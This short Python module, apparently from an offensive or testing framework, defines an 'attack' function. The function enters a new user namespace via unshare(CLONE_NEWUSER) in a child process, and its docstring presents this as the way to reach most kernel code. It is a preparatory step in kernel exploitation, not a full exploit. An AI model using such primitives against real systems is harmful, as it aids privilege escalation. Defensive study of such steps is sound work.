"""Become root of a user namespace: the way to most of the kernel's code."""

from payloads.kernel import CLONE_NEWUSER, in_child, syscall


def attack(alias):
    return in_child(alias, lambda: syscall("unshare", CLONE_NEWUSER))
